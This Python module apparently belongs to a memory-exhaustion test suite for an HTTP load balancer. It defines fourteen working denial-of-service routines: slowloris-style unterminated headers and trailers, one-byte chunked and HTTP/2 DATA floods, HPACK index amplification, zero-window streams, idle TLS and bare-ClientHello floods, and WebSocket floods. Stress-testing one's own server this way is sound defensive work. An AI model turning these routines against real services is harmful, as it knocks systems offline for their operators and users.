"""Clients that want memory. Each attack opens its connections, sends what it has, and gives them back to be closed."""

import ssl

from . import frames

HEAD = b"%s %s HTTP/1.1\r\nHost: a.test\r\n%s\r\n"
CHUNKED = b"Transfer-Encoding: chunked\r\n"
WEBSOCKET = (b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
             b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n")


def chunks_of_one_byte(target, scale):
    """What frames a byte costs more than the byte."""
    body = b"1\r\na\r\n" * 65_000
    for _ in range(min(50, int(50 * scale))):
        target.one("plain", HEAD % (b"POST", b"/hold", CHUNKED) + body)


def streams_of_60_kb(target, scale):
    """Many uploads over few connections."""
    piece = bytes(15_000)
    for _ in range(min(20, int(20 * scale))):
        client = target.connect("h2c")
        target.send(client, frames.opening())
        for stream in range(1, 200, 2):
            target.send(client, frames.head(stream, b"POST", b"/hold", ends=False)
                        + 4 * frames.frame(frames.DATA, 0, stream, piece))


def trailers_without_end(target, scale):
    """Heads are over, trailers are not."""
    trailers = b"".join(b"t%d:\r\n" % (i % 1000) for i in range(2500))[:15_000]
    for _ in range(int(300 * scale) // 10):
        target.one("plain", HEAD % (b"POST", b"/hold", CHUNKED) + b"1\r\na\r\n0\r\n" + trailers)


def heads_without_end(target, scale):
    """Many fields, and no end of the head."""
    fields = b"".join(b"X-Field-Number-%02d: %s\r\n" % (i, b"v" * 129) for i in range(97))
    for _ in range(int(1900 * scale) // 10):
        target.one("plain", (HEAD % (b"GET", b"/hold", fields))[:-2])


def fields_as_indices(target, scale):
    """A byte names a field that has many."""
    first = b"".join(frames.literal(b"x%02d" % i, b"", True) for i in range(95))
    again = bytes(0x80 | (frames.DYNAMIC + i) for i in range(60))
    for _ in range(40):
        client = target.connect("h2c")
        target.send(client, frames.opening() + frames.head(1, b"GET", b"/hold", first))
        for stream in range(3, 200, 2):
            target.send(client, frames.head(stream, b"GET", b"/hold", again))


def idle_tls(target, scale):
    """A connection costs its TLS even if nothing comes."""
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    for _ in range(int(2500 * scale) // 10):
        client = target.connect("tls")
        try:
            client.settimeout(5)
            target.open[-1] = context.wrap_socket(client)
        except (OSError, AttributeError):
            continue


def handshakes_without_end(target, scale):
    """ClientHello, and no more"""
    context = ssl.create_default_context()
    context.check_hostname = False
    out = ssl.MemoryBIO()
    try:
        context.wrap_bio(ssl.MemoryBIO(), out, server_hostname="a.test").do_handshake()
    except ssl.SSLWantReadError:
        pass
    hello = out.read()
    for _ in range(int(3000 * scale) // 10):
        target.one("tls", hello)


def pipelined(target, scale):
    """64 KiB of requests behind one that is not answered"""
    for _ in range(int(500 * scale) // 10):
        target.one("plain", HEAD % (b"GET", b"/hold", b"") + HEAD % (b"GET", b"/", b"") * 1400)


def long_lines(target, scale):
    """A field of 15 KB, and then rest"""
    for _ in range(int(1900 * scale) // 10):
        target.one("plain", HEAD % (b"GET", b"/", b"X: " + b"v" * 15_000 + b"\r\n"))


def frames_of_one_byte(target, scale):
    """DATA frames of one byte, padded or not, to a member that does not answer"""
    plain = frames.frame(frames.DATA, 0, 1, b"a")
    padded = frames.frame(frames.DATA, frames.PADDED, 1, b"\x03a\x00\x00\x00")
    for _ in range(min(50, int(50 * scale))):
        target.one("h2c", frames.opening() + frames.head(1, b"POST", b"/hold", ends=False)
                   + plain * 15_000 + padded * 5_000)


def line_with_bodies(target, scale):
    """Requests that wait for a member that is full, with bodies"""
    piece = bytes(8_000)
    for _ in range(40):
        client = target.connect("h2c")
        target.send(client, frames.opening())
        for stream in range(1, 200, 2):
            target.send(client, frames.head(stream, b"POST", b"/queue/hold", ends=False)
                        + frames.frame(frames.DATA, 0, stream, piece))
    for _ in range(200):
        target.one("plain", HEAD % (b"POST", b"/queue/hold", CHUNKED) + b"1\r\na\r\n" * 20_000)


def tunnels_to_stalled(target, scale):
    """WebSocket frames to a member that does not read"""
    for _ in range(int(200 * scale) // 10):
        client = target.connect("plain")
        target.send(client, HEAD % (b"GET", b"/stall", WEBSOCKET))
        try:
            client.recv(4096)
        except (OSError, AttributeError):
            continue
        target.send(client, bytes(300_000))


def answers_not_read(target, scale):
    """Streams whose window is 0: big answers, and answers of the balancer's own"""
    for path in (b"/big", b"/nowhere/%2f"):
        for _ in range(20):
            client = target.connect("h2c")
            target.send(client, frames.opening(window=0)
                        + b"".join(frames.head(stream, b"GET", path) for stream in range(1, 200, 2)))


def members_heads_without_end(target, scale):
    """Answers of a member whose fields never end"""
    for _ in range(int(250 * scale) // 10):
        target.one("plain", HEAD % (b"GET", b"/endless", b""))


ALL = [chunks_of_one_byte, streams_of_60_kb, trailers_without_end, heads_without_end, fields_as_indices, idle_tls,
       handshakes_without_end, pipelined, long_lines, frames_of_one_byte, line_with_bodies, tunnels_to_stalled,
       answers_not_read, members_heads_without_end]
